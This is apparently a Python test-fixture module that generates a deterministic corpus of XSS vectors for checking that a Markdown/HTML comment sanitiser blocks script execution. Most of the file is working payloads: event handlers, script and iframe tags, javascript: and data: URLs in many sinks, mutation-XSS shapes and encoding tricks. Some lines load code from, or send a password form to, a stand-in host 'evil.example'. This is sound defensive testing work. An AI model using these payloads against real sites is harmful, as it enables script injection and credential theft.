"""The hostile-input corpus: a few thousand XSS vectors, generated here, deterministic.

No public payload list is copied in: the vectors are built by combining the ways such lists
attack a page, so that each combination is one vector.

- PRIMITIVES: complete attacks that run RUN (or load something) if a browser gets them as HTML:
  event handlers, <script>, <iframe srcdoc>, <object>/<embed>, meta refresh, <base href>,
  form actions, style expressions, SVG and MathML, <template>/<noscript> and the mutation-XSS
  shapes (markup that a sanitiser reads one way and a browser re-parses another).
- CONTEXTS: where a payload lands: element content, after an attribute value it tries to leave,
  after the end of a raw-text element (textarea, title, script, style...), inside comment and
  CDATA breaks, nested or unterminated tags, and Markdown (emphasis, code, quotes, lists, link
  text and titles), since comment bodies are Markdown.
- URLS x SINKS: script addresses (javascript:, data:, vbscript:) spelled with mixed case, tabs,
  newlines, entities, percent escapes, leading spaces and Unicode lookalikes, put into every
  place that takes an address: Markdown links, images, autolinks and reference links, and HTML
  href, src, action, formaction, data, xlink:href, base, meta refresh and CSS url().
- TRICKS: whole-vector transforms: fullwidth letters, zero-width characters and NUL bytes in
  tag names, right-to-left overrides, mixed case, entity-encoded angle brackets.

`hostile_vectors()` is every combination once, in a fixed order (dict order, no sets), so a
failure names the same vector on every run. Each vector, if it ever ran, calls alert() or sets
window.__xss (the browser tests watch both).
"""

import itertools
from collections.abc import Callable

RUN = "alert(1);window.__xss=1"
_Q = "alert&#40;1&#41;;window.__xss=1"  # the same code spelled with entities

PRIMITIVES: dict[str, list[str]] = {
    "event handler": [
        f"<img src=x onerror={RUN}>",
        f'<img src="x" onerror="{RUN}">',
        f"<img src=x onerror='{RUN}'>",
        f"<img/src=x/onerror={RUN}>",
        f"<img src=x onerror={_Q}>",
        f'<svg onload="{RUN}">',
        f"<svg/onload={RUN}>",
        f'<body onload="{RUN}">',
        f'<details open ontoggle="{RUN}">',
        f'<input autofocus onfocus="{RUN}">',
        f'<select autofocus onfocus="{RUN}">',
        f'<textarea autofocus onfocus="{RUN}">',
        f'<video><source onerror="{RUN}"></video>',
        f"<audio src=x onerror={RUN}>",
        f"<marquee onstart={RUN}>",
        f"<x onclick={RUN}>click",
        f'<div onmouseover="{RUN}">hover</div>',
        f'<a onfocus="{RUN}" autofocus tabindex=1 href=#>x</a>',
        f'<p onpointerenter="{RUN}">x</p>',
        f'<img src=x ONERROR="{RUN}">',
        f'<img src=x onerror\n="{RUN}">',
        f'<img src=x onerror="javascript:{RUN}">',
    ],
    "script": [
        f"<script>{RUN}</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        f"<script src=data:,{RUN}></script>",
        f"<script>/*</script><script>*/{RUN}</script>",
        f"<script type=module>{RUN}</script>",
        f"<scr<script>ipt>{RUN}</script>",
        f"<script\n>{RUN}</script\n>",
    ],
    "iframe srcdoc": [
        f'<iframe srcdoc="<script>{RUN}</script>">',
        f'<iframe srcdoc="&lt;img src=x onerror={RUN}&gt;"></iframe>',
        f'<iframe src="javascript:{RUN}"></iframe>',
        f"<iframe onload={RUN}></iframe>",
    ],
    "object/embed": [
        f'<object data="javascript:{RUN}"></object>',
        f'<object data="data:text/html,<script>{RUN}</script>"></object>',
        f'<embed src="javascript:{RUN}">',
        "<embed src=data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+>",
        f'<object type="text/html" data="//evil.example/x.html" onerror="{RUN}"></object>',
    ],
    "meta refresh": [
        f'<meta http-equiv=refresh content="0;javascript:{RUN}">',
        f'<meta http-equiv="refresh" content="0; url=data:text/html,<script>{RUN}</script>">',
        '<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    ],
    "base href": [
        f'<base href="javascript:{RUN}//">',
        "<base href=//evil.example/>",
    ],
    "form action": [
        f'<form action="javascript:{RUN}"><button>x</button></form>',
        f'<button formaction="javascript:{RUN}">x</button>',
        f'<form><input type=submit formaction="javascript:{RUN}" value=x></form>',
        '<form action="//evil.example/steal"><input name=password></form>',
    ],
    "style expression": [
        f'<div style="background:url(javascript:{RUN})">x</div>',
        f'<div style="width:expression({RUN})">x</div>',
        f"<style>@import 'javascript:{RUN}';</style>",
        "<style>*{behavior:url(//evil.example/x.htc)}</style>",
        '<div style="-moz-binding:url(//evil.example/x.xml#x)">x</div>',
        f'<link rel=stylesheet href="javascript:{RUN}">',
        f'<link rel=import href="data:text/html,<script>{RUN}</script>">',
    ],
    "svg/mathml": [
        f"<svg><script>{RUN}</script></svg>",
        f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
        f'<svg><a xlink:href="javascript:{RUN}"><text x=9 y=9>x</text></a></svg>',
        f"<svg><set attributeName=href to=javascript:{RUN} /><a><text>x</text></a></svg>",
        f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
        f'<math href="javascript:{RUN}">x</math>',
        f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>",
        f'<svg><use href="data:image/svg+xml,<svg id=x onload={RUN}>#x"/></svg>',
    ],
    "template/noscript/mxss": [
        f"<template><script>{RUN}</script></template>",
        f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
        f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}">',
        f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
        f'<noembed><img title="</noembed><img src=x onerror={RUN}>">',
        f'<xmp><img title="</xmp><img src=x onerror={RUN}>">',
        f'<textarea><img title="</textarea><img src=x onerror={RUN}>">',
        f'<title><img title="</title><img src=x onerror={RUN}>">',
        f'<iframe><img title="</iframe><img src=x onerror={RUN}>">',
        f'<style><img title="</style><img src=x onerror={RUN}>">',
        f'<math><style><img src=x onerror="{RUN}"></style></math>',
        f"<table><tr><td><svg><desc><table></table><img src=x onerror={RUN}>",
        f'<a href="x" title="&lt;img src=x onerror={RUN}&gt;">x</a>',
    ],
    "template injection": [
        f"{{{{constructor.constructor('{RUN}')()}}}}",
        f"${{{RUN}}}",
        f"<%= {RUN} %>",
    ],
}

CONTEXTS: dict[str, list[str]] = {
    "element": ["{}", "Hello {} world"],
    "attribute": ['">{}', "'>{}"],
    "raw text end": ["</textarea>{}", "</title>{}", "</noscript>{}"],
    "comment/cdata": ["<!--{}-->", "<![CDATA[{}]]>"],
    "nested/unterminated": ["<{}", "<a href='{}'>x</a>"],
    "markdown": ["**{}**", "`{}`", "> {}", "[{}](https://example.org)", '[x](https://example.org "{}")'],
}

URLS: list[str] = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"JAVASCRIPT:{RUN}",
    f" javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"java\rscript:{RUN}",
    f"&#106;avascript:{RUN}",
    f"&#x6A;avascript:{RUN}",
    f"&#0000106;avascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"javascript&#58;{RUN}",
    f"java&Tab;script:{RUN}",
    f"%6Aavascript:{RUN}",
    f"javascript%3A{RUN}",
    f"javas\u200bcript:{RUN}",
    f"\uff4a\uff41\uff56\uff41\uff53\uff43\uff52\uff49\uff50\uff54\uff1a{RUN}",
    f"javascript://%0A{RUN}",
    f"javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/{RUN}//'>",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"DATA:text/html,<script>{RUN}</script>",
    f"data:image/svg+xml,<svg onload={RUN}>",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
    f'https://example.org/"onmouseover="{RUN}',
    f"https://example.org/'><script>{RUN}</script>",
    f"https://example.org/?q=<script>{RUN}</script>",
    f'//evil.example/"onfocus="{RUN}',
    "\\\\evil.example/x",
]

SINKS: dict[str, list[str]] = {
    "markdown": [
        "[click]({})",
        "[click](<{}>)",
        "![image]({})",
        "<{}>",
        "[x][r]\n\n[r]: {}",
        "[click]( {} )",
    ],
    "html": [
        '<a href="{}">click</a>',
        "<a href='{}'>click</a>",
        "<a href={}>click</a>",
        '<img src="{}">',
        '<iframe src="{}"></iframe>',
        '<object data="{}"></object>',
        '<embed src="{}">',
        '<form action="{}"><button>go</button></form>',
        '<button formaction="{}">go</button>',
        '<base href="{}">',
        '<meta http-equiv="refresh" content="0;url={}">',
        '<svg><a xlink:href="{}"><text>x</text></a></svg>',
        "<div style=\"background:url('{}')\">x</div>",
        '<link rel="stylesheet" href="{}">',
        '<area shape=rect coords=0,0,99,99 href="{}">',
    ],
}

_FULLWIDTH = {c: chr(ord(c) + 0xFEE0) for c in "<>\"'/=:()"}


def _fullwidth(text: str) -> str:
    return "".join(_FULLWIDTH.get(c, c) for c in text)


def _in_tag_names(text: str, insert: str) -> str:
    """`insert` after the first letter of every tag name (<s\u200bcript>, </s\u200bcript>)."""
    out, i = [], 0
    while i < len(text):
        out.append(text[i])
        if text[i] == "<":
            if text[i + 1 : i + 2] == "/":
                out.append("/")
                i += 1
            if text[i + 1 : i + 2].isalpha():
                out.append(text[i + 1] + insert)
                i += 1
        i += 1
    return "".join(out)


def _mixed_case(text: str) -> str:
    return "".join(c.upper() if n % 2 else c.lower() for n, c in enumerate(text))


TRICKS: dict[str, Callable[[str], str]] = {
    "fullwidth": _fullwidth,
    "zero-width in tag names": lambda v: _in_tag_names(v, "\u200b"),
    "NUL in tag names": lambda v: _in_tag_names(v, "\x00"),
    "right-to-left override": lambda v: f"\u202e{v}\u202c",
    "mixed case": _mixed_case,
    "entity-encoded brackets": lambda v: v.replace("<", "&lt;").replace(">", "&gt;"),
}


def _primitives() -> list[str]:
    return [p for group in PRIMITIVES.values() for p in group]


def hostile_vectors() -> list[str]:
    """Every vector once, always in the same order: contexts x primitives, sinks x URLs, then
    each trick applied to every primitive."""
    primitives = _primitives()
    contexts = [c for group in CONTEXTS.values() for c in group]
    sinks = [s for group in SINKS.values() for s in group]
    vectors = [c.replace("{}", p) for c, p in itertools.product(contexts, primitives)]
    vectors += [s.replace("{}", u) for s, u in itertools.product(sinks, URLS)]
    vectors += [trick(p) for trick, p in itertools.product(TRICKS.values(), primitives)]
    vectors += URLS
    return list(dict.fromkeys(vectors))
